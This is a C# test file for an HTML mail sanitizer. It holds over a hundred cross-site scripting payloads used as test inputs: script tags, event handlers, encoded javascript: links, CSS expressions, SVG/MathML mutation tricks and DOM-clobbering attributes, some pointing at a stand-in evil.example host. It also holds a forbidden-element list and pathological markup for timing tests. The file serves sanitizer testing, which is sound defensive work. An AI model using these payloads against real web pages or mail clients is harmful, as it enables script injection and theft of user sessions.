using System.Globalization;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace M365Support.Mail.Html;

public sealed class HtmlSanitizerTests
{
    private static readonly string[] AllowedAttributes =
    [
        "href", "target", "rel", "style", "title", "dir", "lang", "src", "alt", "width", "height", "referrerpolicy", "loading",
        "color", "face", "size", "start", "type", "value", "colspan", "rowspan", "align", "valign", "bgcolor", "border", "cellpadding", "cellspacing", "span",
    ];

    private static readonly string[] ForbiddenElements =
    [
        "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "template", "noscript", "link", "meta", "base", "title",
        "frameset", "frame", "applet", "audio", "video", "canvas", "xmp", "plaintext", "noembed", "noframes", "marquee", "map", "portal", "dialog", "isindex", "keygen", "image",
    ];

    /// <summary>Attacks: plain, encoded, by other namespaces, by mutation on a second parse, by the page's own objects.</summary>
    public static TheoryData<string> Attacks =>
    [
        // Scripts and handlers
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\u00a0>alert(1)</script>",
        "<script/x>alert(1)</script>",
        "<<script>alert(1);//<</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror\u000c=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img/src/onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<body onload=alert(1)>",
        "<div onmouseover='alert(1)'>x</div>",
        "<div ONCLICK=alert(1)>x</div>",
        "<details open ontoggle=alert(1)>x</details>",
        "<p onfocus=alert(1) tabindex=0 autofocus contenteditable>x</p>",
        "<a href=x onclick=alert(1)>x</a>",
        "<b style=animation-name:x onanimationstart=alert(1)>x</b>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video>",
        "<audio src onloadstart=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<input autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",

        // Addresses
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" \u0001javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"&Tab;javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"blob:https://evil.example/1\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"\\\\evil.example\\x\">x</a>",
        "<a href=\"ms-word:ofe|u|https://evil.example/x.docm\">x</a>",
        "<a href=\"https:javascript:alert(1)\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<a href=https://good.example ping=https://evil.example>x</a>",
        "<a href=https://good.example target=_top rel=opener>x</a>",
        "<area href=javascript:alert(1)>",
        "<img src=javascript:alert(1)>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<img srcset=\"https://evil.example/x 1x\" src=x>",
        "<img src=https://evil.example/pixel.gif>",
        "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
        "<table background=https://evil.example/x><td background=javascript:alert(1)>x</table>",
        "<body background=javascript:alert(1)>",
        "<blockquote cite=javascript:alert(1)>x</blockquote>",
        "<q cite=javascript:alert(1)>x</q>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><input type=submit></form>",
        "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",

        // Styles
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
        "<div style=\"width:\\65 xpression(alert(1))\">x</div>",
        "<div style=\"color:red;-moz-binding:url(https://evil.example/x)\">x</div>",
        "<div style=\"behavior:url(x.htc)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</div>",
        "<div style=\"margin-top:-500px\">x</div>",
        "<div style=\"font-size:9999px\">x</div>",
        "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
        "<div style='font-family:\"</style><img src=x onerror=alert(1)>\"'>x</div>",
        "<div style=\"list-style:url(https://evil.example/x)\">x</div>",
        "<div style=\"color:image-set('https://evil.example/x')\">x</div>",
        "<div style=\"color:var(--x);--x:url(https://evil.example)\">x</div>",
        "<div style=\"@import 'https://evil.example/x.css'\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>*{background:url(https://evil.example/x)}</style>",

        // Other namespaces and mutation
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
        "<svg></p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
        "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<math href=javascript:alert(1)>x</math>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noscript><style></noscript><img src=x onerror=alert(1)>",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template><template><script>alert(1)</script></template></template>",
        "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><?php echo '<script>alert(1)</script>' ?>",
        "<p title=\"<img src=x onerror=alert(1)>\">x</p>",
        "<p title='`onerror=alert(1)'>x</p>",
        "<table><tr><td><form><script>alert(1)</script></td></tr></table>",
        "<table><img src=x onerror=alert(1)></table>",
        "<select><template><script>alert(1)</script></template></select>",
        "<option><style></option></select><img src=x onerror=alert(1)></style>",
        "<a><svg><a><style></a><img src=x onerror=alert(1)></style>",
        "<b><p><b></p><img src=x onerror=alert(1)></b>",
        "<custom-element onclick=alert(1) is=x>x</custom-element>",
        "<x onclick=alert(1) tabindex=1 id=x>x</x>",
        "<\0script>alert(1)</script>",
        "<im\0g src=x onerror=alert(1)>",
        "<img src=x on\0error=alert(1)>",
        "\uFEFF<script>alert(1)</script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",

        // Shadowing the page's objects
        "<img id=cookie name=cookie>",
        "<a id=defaultView name=location href=https://evil.example>x</a>",
        "<form name=document><input name=body></form>",
        "<p id=__proto__ class=constructor slot=x part=y itemprop=z data-x=1 aria-label=q role=dialog>x</p>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_is_harmless_after_sanitising(string attack) => AssertHarmless(HtmlSanitizer.Sanitize(attack));

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_inside_a_table_of_a_mail_is_harmless(string attack) =>
        AssertHarmless(HtmlSanitizer.Sanitize($"<html><body><table><tr><td><p>Hello {attack} there</p></td></tr></table></body></html>"));

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Sanitised_html_stays_the_same_when_sanitised_again(string attack)
    {
        var once = HtmlSanitizer.Sanitize(attack);
        Assert.Equal(once, HtmlSanitizer.Sanitize(once));
    }

    [Fact]
    public void Attacks_glued_together_are_harmless()
    {
        var random = new Random(7);
        var attacks = ((IEnumerable<object[]>)Attacks).Select(row => (string)row[0]).ToArray();
        for (var i = 0; i < 2_000; i++)
        {
            var first = attacks[random.Next(attacks.Length)];
            var second = attacks[random.Next(attacks.Length)];
            AssertHarmless(HtmlSanitizer.Sanitize(first[..random.Next(first.Length + 1)] + second[random.Next(second.Length)..] + attacks[random.Next(attacks.Length)]));
        }
    }

    [Fact]
    public void Formatting_lists_and_tables_are_kept()
    {
        const string Html = "<p style=\"color: red; margin-left: 20px\">One <b>bold</b> <em>two</em></p><ul><li>a</li><li>b</li></ul><table border=\"1\"><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>";
        Assert.Equal(Html, HtmlSanitizer.Sanitize(Html));
    }

    [Theory]
    [InlineData("https://contoso.example/a?b=1&c=2", "https://contoso.example/a?b=1&amp;c=2")]
    [InlineData("mailto:desk@contoso.example", "mailto:desk@contoso.example")]
    public void Links_open_apart_and_do_not_name_the_page(string address, string written)
    {
        Assert.Equal($"<a href=\"{written}\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>", HtmlSanitizer.Sanitize($"<a href=\"{address}\">x</a>"));
    }

    [Theory]
    [InlineData("https://bank.example/login", "https://bank.example/login (evil.example)")]
    [InlineData("www.bank.example", "www.bank.example (evil.example)")]
    [InlineData("http://evil.example.bank.example", "http://evil.example.bank.example (evil.example)")]
    [InlineData("https://www.evil.example/", "https://www.evil.example/")]
    [InlineData("the bank", "the bank")]
    public void Link_whose_words_name_another_host_says_where_it_leads(string words, string shown)
    {
        var once = HtmlSanitizer.Sanitize($"<a href=\"https://evil.example/x\"><b>{words}</b></a>");
        Assert.Equal(shown, new HtmlParser().ParseDocument(once).Body!.TextContent);
        Assert.Equal(once, HtmlSanitizer.Sanitize(once));
    }

    [Fact]
    public void Embedded_images_are_mapped_and_keep_their_place()
    {
        var options = new HtmlSanitizerOptions { EmbeddedImage = id => id == "image001.png@01DA" ? "/api/attachments/7" : null };
        Assert.Equal(
            "<p>a <img src=\"/api/attachments/7\" alt=\"Screen\" width=\"640\" referrerpolicy=\"no-referrer\" loading=\"lazy\"> b</p>",
            HtmlSanitizer.Sanitize("<p>a <img src=\"cid:image001.png@01DA\" alt=Screen width=640> b</p>", options));
        Assert.Equal("<p>a <span>[image: other.png]</span></p>", HtmlSanitizer.Sanitize("<p>a <img src=cid:other.png@x></p>", options));
    }

    [Fact]
    public void Remote_images_are_blocked_unless_allowed()
    {
        const string Html = "<img src=\"https://contoso.example/logo.png\" alt=\"Logo\">";
        Assert.Equal("<span>[image: Logo]</span>", HtmlSanitizer.Sanitize(Html));
        Assert.Contains("src=\"https://contoso.example/logo.png\"", HtmlSanitizer.Sanitize(Html, new HtmlSanitizerOptions { AllowRemoteImages = true }), StringComparison.Ordinal);
        Assert.Equal(string.Empty, HtmlSanitizer.Sanitize("<img src=https://evil.example/t.gif width=1 height=1>", new HtmlSanitizerOptions { AllowRemoteImages = true }));
        Assert.Equal(string.Empty, HtmlSanitizer.Sanitize("<img src=https://evil.example/t.gif style='width: 1px; height:1px'>"));
    }

    [Theory]
    [InlineData("color:#1F497D;font-family:\"Calibri\",\"sans-serif\";font-size:11.0pt", "color: #1F497D; font-family: \"Calibri\",\"sans-serif\"; font-size: 11.0pt")]
    [InlineData("COLOR: rgb(0, 0, 0) !important", "color: rgb(0, 0, 0)")]
    [InlineData("margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex", "margin: 0 0 0 .8ex; border-left: 1px #ccc solid; padding-left: 1ex")]
    [InlineData("mso-fareast-language:EN-US;tab-stops:1;display:none2", null)]
    [InlineData("margin:-1px", null)]
    [InlineData("width:99999px", null)]
    [InlineData("font-size:500%", null)]
    public void Style_keeps_colour_and_space(string style, string? kept) => Assert.Equal(kept, SafeCss.Filter(style));

    public static TheoryData<string> Monsters =>
    [
        "<div>", "<span>", "<b>", "<i><div>", "<b><div></b>", "<ul><li>", "<table><tr><td>", "<table>x", "<p>", "<a href=x>", "<svg>", "<math><mtext>", "<template>", "<select><option>", "<font color=1>", "</p>", "</div>", "<", "<!", "<!--", "&", "&#x", "<a ", "<a b='", "<ruby><rt>", "<button>", "<nobr>", "<blockquote type=cite>", "<div style=\"border-top:solid 1px\">:::", "<div class=gmail_quote>", "<!-- -- ", "<h1>", "<dd>", "<form>", "<noscript>", "<body a=1>", "<html b=2>", "<br>", "<td>", "<img src=cid:a>",
        "<td><p>x", "<td>x<td><br>", "<span style='mso-list:ignore'>1.", "<span style='mso-list:ignore'>", "<div style='border-left:1px solid'>x", "<style>.a{display:none}</style><i class=a>", "<style>@x{", "<style>/*", "<b>(</b>y", "<pre>x\n", "<div style='white-space:pre'> ", "<ol><li>x",
    ];

    [Theory]
    [MemberData(nameof(Monsters))]
    public async Task Endlessly_repeated_markup_is_handled_in_time(string piece)
    {
        var html = string.Concat(Enumerable.Repeat(piece, 300_000 / piece.Length));
        var work = Task.Run(() => (HtmlSanitizer.Sanitize(html), HtmlMarkdown.Convert(html), HtmlText.Convert(html), Replies.ReplyExtractor.FromHtml(html)));

        Assert.Same(work, await Task.WhenAny(work, Task.Delay(TimeSpan.FromSeconds(60))));
        AssertHarmless((await work).Item1);
    }

    [Fact]
    public async Task Formatting_with_ever_new_attributes_is_handled_in_time()
    {
        var html = string.Concat(Enumerable.Range(0, 20_000).Select(i => string.Create(CultureInfo.InvariantCulture, $"<font a{i}=1><div></font>x")));
        var work = Task.Run(() => HtmlSanitizer.Sanitize(html + "<div " + string.Concat(Enumerable.Range(0, 100_000).Select(i => string.Create(CultureInfo.InvariantCulture, $"a{i}=1 "))) + ">"));

        Assert.Same(work, await Task.WhenAny(work, Task.Delay(TimeSpan.FromSeconds(60))));
        AssertHarmless(await work);
    }

    private static void AssertHarmless(string html)
    {
        foreach (var scripting in (bool[])[false, true])
        {
            var document = new HtmlParser(new HtmlParserOptions { IsScripting = scripting }).ParseDocument("<!DOCTYPE html><body>" + html);
            foreach (var element in document.Body!.QuerySelectorAll("*"))
            {
                Assert.DoesNotContain(element.LocalName, ForbiddenElements);
                Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
                foreach (var attribute in element.Attributes)
                {
                    Assert.Contains(attribute.Name, AllowedAttributes);
                    AssertHarmless(element, attribute);
                }
            }
        }
    }

    private static void AssertHarmless(IElement element, IAttr attribute)
    {
        switch (attribute.Name)
        {
            case "href":
                Assert.Matches("^(https?://|mailto:)", attribute.Value);
                Assert.Equal("_blank", element.GetAttribute("target"));
                Assert.Equal("noopener noreferrer nofollow", element.GetAttribute("rel"));
                break;
            case "src":
                Assert.Matches("^data:image/(png|jpeg|jpg|gif|webp);base64,", attribute.Value);
                break;
            case "style":
                Assert.DoesNotMatch(@"(?i)url|expression|position|\\|@|<|>|/\*|-moz|behavior|var\(", attribute.Value);
                break;
        }
    }
}
